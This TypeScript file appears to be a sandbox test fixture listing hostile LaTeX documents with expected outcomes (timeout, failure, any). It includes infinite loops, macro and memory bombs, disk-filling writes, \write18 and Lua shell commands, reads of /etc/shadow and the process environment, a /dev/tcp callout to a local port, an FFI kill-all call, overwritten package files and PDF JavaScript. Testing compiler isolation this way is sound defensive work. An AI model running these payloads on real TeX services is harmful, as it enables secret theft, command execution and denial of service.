import type { MakeHostilePrograms } from '../../../port/samples.ts';

const raw = String.raw;
const magenta = raw`\definecolor{caught}{RGB}{255,0,255}\color{caught}`;

/** A whole document; what it gets at is set in magenta. */
const document = (body: string, preamble = '', engine = ''): string =>
  raw`${engine}\documentclass{article}
\usepackage{graphicx,xcolor,tikz}
${preamble}
\begin{document}
innocent ${body}
\end{document}`;
const caught = (body: string): string => document(`${magenta} ${body}`);
const ifFile = (path: string): string => raw`\IfFileExists{${path}}{${magenta}\rule{3cm}{3cm}}{}`;
const luatex = (code: string): string =>
  document(raw`\directlua{${code}}`, raw`\usepackage{fontspec}`, '% !TeX program = lualatex\n');
const lua = (work: string): string =>
  luatex(raw`local fine, found = pcall(function() ${work} end)
if fine and found then tex.print("\\definecolor{caught}{RGB}{255,0,255}\\color{caught}ESCAPED") end`);

/** One line for each of the letters from a to j and the letter after it. */
const steps = (line: (from: string, to: string) => string): string =>
  [...'abcdefghi'].map((from, index) => line(from, 'bcdefghij'[index]!)).join('');

/** Documents that do not end, hoard, flood, or read, write and call what is not theirs. */
export const latexPrograms: MakeHostilePrograms = ({ port, folder, mark }) => ({
  'a loop': ['timeout', document(raw`\def\again{\again}\again`)],
  'a loop of \\loop': ['timeout', document(raw`\loop\iftrue\repeat`)],
  'a loop of tokens that grow': ['failed', document(raw`\def\a{\a x\a}\a`)],
  'a loop of counters': [
    'timeout',
    document(raw`\newcount\n \def\again{\advance\n by 1 \ifnum\n>0 \expandafter\again\fi}\again`),
  ],
  'a loop in the preamble': ['timeout', document('', raw`\def\again{\again}\again`)],
  'a loop before the class': [
    'timeout',
    raw`\def\again{\again}\again\documentclass{article}\begin{document}x\end{document}`,
  ],
  'a loop at the end': ['timeout', document(raw`\AtEndDocument{\def\again{\again}\again}`)],
  'a loop within a snippet': [
    'timeout',
    raw`\begin{tikzpicture}\foreach \i in {1,...,10000} {\foreach \j in {1,...,10000} {\draw (0,0)--(1,1);}}\end{tikzpicture}`,
  ],
  'a loop of pages': ['any', document(raw`\def\again{x\newpage\again}\again`)],
  'a loop of \\shipout': ['any', document(raw`\loop\shipout\hbox{x}\iftrue\repeat`)],
  'a thousand pages': ['any', document(raw`\foreach \i in {1,...,1000} {\i\newpage}`)],
  'a bomb of macros': [
    'any',
    document(`${raw`\def\a{x}`}${steps((from, to) => raw`\edef` + `\\${to}{${`\\${from}`.repeat(10)}}`)}\\j`),
  ],
  'a bomb of \\csname': [
    'any',
    document(raw`\newcount\n \loop\expandafter\def\csname x\the\n\endcsname{x}\advance\n by 1 \iftrue\repeat`),
  ],
  'a bomb of boxes': ['any', document(raw`\setbox0\hbox{x}\loop\setbox0\hbox{\copy0\copy0}\iftrue\repeat`)],
  'groups within groups': ['failed', document('{'.repeat(100_000))],
  'a page of 16 metres': [
    'any',
    document(raw`\rule{16000pt}{16000pt}`, raw`\pdfpagewidth=16000pt \pdfpageheight=16000pt`),
  ],
  'a picture of 16 metres': ['any', raw`\begin{tikzpicture}\draw (0,0) rectangle (560,560);\end{tikzpicture}`],
  'a plot of a million samples': [
    'any',
    raw`\begin{tikzpicture}\begin{axis}\addplot[samples=1000000]{sin(x)};\end{axis}\end{tikzpicture}`,
  ],
  'a flood on the terminal': [
    'any',
    document(raw`\loop\message{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\iftrue\repeat`),
  ],
  'a flood in the log': [
    'any',
    document(raw`\tracingall\loop\wlog{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\iftrue\repeat`),
  ],
  'a flood of errors': ['failed', document(raw`\errorcontextlines=1000 \loop\errmessage{wrong}\iftrue\repeat`)],
  'a question on the terminal': ['any', document(raw`\scrollmode \errorstopmode \read16 to \answer \answer`)],
  'a flood of objects': [
    'any',
    document(raw`\loop\immediate\pdfobj stream {xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\iftrue\repeat`),
  ],
  'a disk filled by \\write': [
    'any',
    document(
      raw`\newwrite\out \immediate\openout\out=fill.txt \edef\x{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\loop\immediate\write\out{\x\x\x\x\x\x\x\x}\iftrue\repeat`,
    ),
  ],
  '\\write18': [
    'any',
    caught(
      raw`\immediate\write18{echo > /dev/tcp/127.0.0.1/${port}; touch ${folder}/${mark}; cp ${folder}/secret.tex stolen.tex}\IfFileExists{stolen.tex}{\input{stolen}}{}`,
    ),
  ],
  '\\write18 by a pipe of \\input': ['any', caught(raw`\input{|"cat ${folder}/secret.txt"}\input|"env"`)],
  '\\write18 by packages': [
    'any',
    document(
      raw`\ShellEscape{touch ${folder}/${mark}}\includegraphics{x.eps}`,
      raw`\usepackage{shellesc,epstopdf}\epstopdfsetup{outdir=./}`,
    ),
  ],
  'programs by \\write18 that set-up allows': [
    'any',
    document(
      raw`\immediate\write18{kpsewhich --var-value=PENTIMENTO_CANARY > out.tex}\immediate\write18{bibtex ${folder}/secret}\input{out}`,
    ),
  ],
  '\\input of an absolute path': ['any', caught(raw`\input{${folder}/secret.txt}`)],
  '\\input of code': ['any', caught(raw`\input{${folder}/secret.tex}`)],
  '\\@@input and \\include': [
    'any',
    caught(raw`\makeatletter\@@input ${folder}/secret.txt \makeatother\include{${folder}/secret}`),
  ],
  '\\input up the folders': ['any', caught(raw`\input{../../../../../../../..${folder}/secret.txt}\input{~/.profile}`)],
  '\\openin': [
    'any',
    caught(raw`\newread\in \openin\in=${folder}/secret.txt \ifeof\in\else\read\in to \line \line\fi\closein\in`),
  ],
  'files asked for': [
    'any',
    document(
      ['secret.txt', 'secret.tex', 'secret.png'].map((name) => ifFile(`${folder}/${name}`)).join('') +
        ['/etc/shadow', '/proc/1/environ', '/root/.profile'].map(ifFile).join(''),
    ),
  ],
  '\\lstinputlisting and \\verbatiminput': [
    'any',
    document(
      raw`${magenta}\lstinputlisting{${folder}/secret.txt}\verbatiminput{${folder}/secret.txt}`,
      raw`\usepackage{listings,verbatim}`,
    ),
  ],
  'tables and plots of a file': [
    'any',
    document(
      raw`${magenta}\pgfplotstabletypeset[col sep=comma]{${folder}/secret.txt}\begin{tikzpicture}\begin{axis}\addplot table {${folder}/secret.txt};\end{axis}\end{tikzpicture}`,
      raw`\usepackage{pgfplots,pgfplotstable}`,
    ),
  ],
  '\\includegraphics': ['any', document(raw`\includegraphics{${folder}/secret.png}`)],
  '\\pdfximage': ['any', document(raw`\pdfximage{${folder}/secret.png}\pdfrefximage\pdflastximage`)],
  '\\pdfobj stream file': [
    'any',
    document(raw`\immediate\pdfobj stream file {${folder}/secret.txt}\pdfcatalog{/AF \the\pdflastobj\space 0 R}`),
  ],
  '\\pdffiledump': [
    'any',
    caught(
      raw`\edef\dump{\pdffiledump offset 0 length 64{${folder}/secret.txt}}\ifx\dump\empty\else\rule{3cm}{3cm}\fi`,
    ),
  ],
  '\\pdffilesize and \\pdfmdfivesum': [
    'any',
    caught(
      raw`\edef\size{\pdffilesize{${folder}/secret.txt}\pdffilemoddate{${folder}/secret.txt}}\ifx\size\empty\else\rule{3cm}{3cm}\fi`,
    ),
  ],
  'fonts and maps of a file': [
    'any',
    document(raw`\pdfmapfile{${folder}/secret.txt}\pdfmapline{x <${folder}/secret.txt}\font\x=${folder}/secret \x x`),
  ],
  'the environment': [
    'any',
    caught(
      raw`\newread\in \openin\in=/proc/self/environ \ifeof\in\else\catcode0=12 \read\in to \line \line\fi \input{$PENTIMENTO_CANARY}\input{\string$HOME/.profile}`,
    ),
  ],
  'files written by \\openout': [
    'any',
    document(
      ['/tmp/', `${folder}/`, '../', '/var/tmp/', '/usr/share/texmf/', '/etc/', '']
        .map((place) => raw`\immediate\openout15=${place}${mark} \immediate\write15{x}\immediate\closeout15 `)
        .join(''),
    ),
    document(
      raw`\IfFileExists{${mark}}{\errmessage{ESC\empty APED}}{}\IfFileExists{/tmp/${mark}}{\errmessage{ESC\empty APED}}{}`,
    ),
  ],
  'files written over': [
    'any',
    document(
      raw`\immediate\openout15=${folder}/secret.txt \immediate\write15{x}\immediate\closeout15 \immediate\openout15=article.cls \immediate\write15{\errmessage{ESC\empty APED}}\immediate\closeout15 \immediate\openout15=tikz.sty \immediate\write15{\errmessage{ESC\empty APED}}\immediate\closeout15`,
    ),
    document(raw`\tikz\draw (0,0) -- (1,1);`),
  ],
  'a preamble that spoils what follows': [
    'any',
    document(
      'x',
      raw`\gdef\tikzpicture{\errmessage{ESC\empty APED}}\everyjob{\errmessage{ESC\empty APED}}\AtBeginDocument{\global\let\section\relax}`,
    ),
    document(raw`\section{Right}\begin{tikzpicture}\draw (0,0) -- (1,1);\end{tikzpicture}`),
  ],
  'a preamble that dumps a format of its own': [
    'any',
    document('x', raw`\everyjob{\errmessage{ESC\empty APED}}\dump`),
    document('x'),
  ],
  'a preamble with an endless end': [
    'any',
    document('x', raw`\AtBeginDocument{\def\again{\again}\again}`),
    document('right'),
  ],
  'Lua: a program run': [
    'any',
    lua(raw`return os.execute("touch ${folder}/${mark}") or io.popen("env"):read("a"):find("CANARY")`),
  ],
  'Lua: a file read': ['any', lua(raw`return io.open("${folder}/secret.txt"):read("*a")`)],
  'Lua: the environment': ['any', lua(raw`return os.getenv("PENTIMENTO_CANARY")`)],
  'Lua: files written and removed': [
    'any',
    lua(
      raw`io.open("/var/tmp/${mark}", "w"):write("x") io.open("${folder}/${mark}", "w"):write("x") return os.remove("${folder}/secret.svg")`,
    ),
  ],
  'Lua: a connection': ['any', lua(raw`return require("socket").connect("127.0.0.1", ${port})`)],
  'Lua: a library of C': [
    'any',
    lua(
      raw`local ffi = require("ffi") ffi.cdef("int getuid(); int kill(int, int); int fork();") ffi.C.kill(-1, 9) return ffi.C.fork() > 0`,
    ),
  ],
  'Lua: a loop': ['any', luatex('while true do end')],
  'Lua: a bomb of memory': [
    'any',
    luatex('local t = {} while true do t[#t + 1] = string.rep("x", 10000000) .. #t end'),
  ],
  'PostScript in a special': [
    'any',
    document(
      raw`\special{ps: (${folder}/secret.txt) (r) file}\special{pdf: docinfo << /X (x) >>}\special{psfile=${folder}/secret.txt}`,
    ),
  ],
  'a PDF with a script and a file': [
    'any',
    document(
      raw`\pdfcatalog{/OpenAction << /S /JavaScript /JS (app.launchURL("http://127.0.0.1:${port}/")) >> /AA << /O << /S /URI /URI (http://127.0.0.1:${port}/) >> >>}`,
    ),
  ],
  'a PDF whose stream is no stream': [
    'any',
    document(raw`\pdfliteral page {q Q Q Q Q BT ET /X Do ( [ << 1 0 0 RG 9e99 w 0 0 m 1e99 1e99 l S}`),
  ],
  'a PDF of forms within forms': [
    'any',
    document(
      raw`\setbox0\hbox{\rule{1pt}{1pt}}\immediate\pdfxform0 ${raw`\setbox0\hbox{\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform\pdfrefxform\pdflastxform}\immediate\pdfxform0 `.repeat(8)}\pdfrefxform\pdflastxform`,
    ),
  ],
  'bytes that are no text': [
    'any',
    '\u0000\ud800\u0001\\documentclass{article}\\begin{document}x\u0000\\end{document}',
  ],
  'no document at all': ['failed', '%'],
  'an end before the beginning': ['any', raw`\end{document}\begin{document}x\end{document}\begin{document}y`],
  'XeLaTeX: a picture and a font of the host': [
    'any',
    raw`% !TeX program = xelatex
\documentclass{article}\usepackage{fontspec}\begin{document}x \XeTeXpicfile "${folder}/secret.png" \font\x="[${folder}/secret.txt]" \x x\end{document}`,
  ],
  'a loop, once its beginning is known': ['timeout', document(raw`\def\again{\again}\again`)],
  'a loop at the end, once its beginning is known': [
    'timeout',
    document(raw`\AtEndDocument{\def\again{\again}\again}`),
  ],
  'a loop in a page with a picture, once its beginning is known': [
    'timeout',
    document(raw`\tikz\draw (0,0) -- (1,1);\loop\iftrue\repeat`),
  ],
});
